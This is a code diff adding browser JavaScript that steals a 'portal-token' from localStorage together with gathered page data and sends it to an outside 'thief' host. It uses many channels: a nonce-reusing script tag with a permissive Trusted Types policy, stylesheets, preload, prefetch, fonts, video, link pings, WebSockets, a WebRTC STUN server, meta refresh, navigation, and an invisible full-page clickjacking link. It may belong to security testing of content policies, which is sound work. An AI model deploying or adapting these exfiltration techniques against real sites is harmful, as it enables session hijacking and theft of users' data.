@@ -56,6 +56,8 @@ export default () => {
     new Promise((resolve) => {
       for (const event of ['load', 'error']) thing.addEventListener(event, resolve);
     });
+  /** What would be sent by then has left. */
+  const wait = () => new Promise((resolve) => setTimeout(resolve, 300));
   const all = () => loot.join('\n');
   /** A session is short, a page is long: the end of what was found has the last session. */
   const query = () => encodeURIComponent(`${localStorage.getItem('portal-token')} ${all().slice(-3000)}`);
@@ -96,7 +98,48 @@ export default () => {
       element('style', { nonce, textContent: `body { background-image: url("${thief}/css?${query()}") }` });
       await settled(element('link', { nonce, rel: 'stylesheet', href: `${thief}/sheet?${query()}` }));
     },
-    navigation: (thief) => location.assign(`${thief}/navigation?${query()}`),
+    script: (thief) => {
+      const { nonce } = document.querySelector('script[nonce]');
+      const policy = trustedTypes.createPolicy('webpack', { createScriptURL: (address) => address });
+      const src = policy.createScriptURL(`${thief}/script?${query()}`);
+      return settled(element('script', { nonce, src, crossOrigin: 'anonymous', integrity: `sha384-${'A'.repeat(64)}` }));
+    },
+    preload: (thief) => settled(element('link', { rel: 'preload', as: 'image', href: `${thief}/preload?${query()}` })),
+    prefetch(thief) {
+      element('link', { rel: 'prefetch', href: `${thief}/prefetch?${query()}` });
+      return wait();
+    },
+    font: (thief) => new FontFace('loot', `url("${thief}/font?${query()}")`).load(),
+    video: (thief) => settled(element('video', { src: `${thief}/video?${query()}` })),
+    ping(thief) {
+      const link = element('a', { href: '#', ping: `${thief}/ping?${query()}` });
+      link.click();
+      return wait();
+    },
+    socket: (thief) => settled(new WebSocket(`${thief.replace('http', 'ws')}/socket?${query()}`)),
+    async line(thief) {
+      const line = new RTCPeerConnection({ iceServers: [{ urls: thief.replace('http://', 'stun:') }] });
+      line.createDataChannel('loot');
+      await line.setLocalDescription(await line.createOffer());
+    },
+    refresh(thief) {
+      element('meta', { httpEquiv: 'refresh', content: `0;url=${thief}/refresh?${query()}` });
+      return wait();
+    },
+    click(thief) {
+      element('a', { href: `${thief}/click?${query()}` }).click();
+      return wait();
+    },
+    navigation(thief) {
+      location.assign(`${thief}/navigation?${query()}`);
+      return wait();
+    },
+    /** Under the finger of the member, all of the page is a link. */
+    pressed(thief) {
+      window.name = localStorage.getItem('portal-token');
+      const link = element('a', { href: `${thief}/pressed?${query()}` });
+      Object.assign(link.style, { position: 'fixed', inset: '0', zIndex: '9999' });
+    },
   };
 
   return {
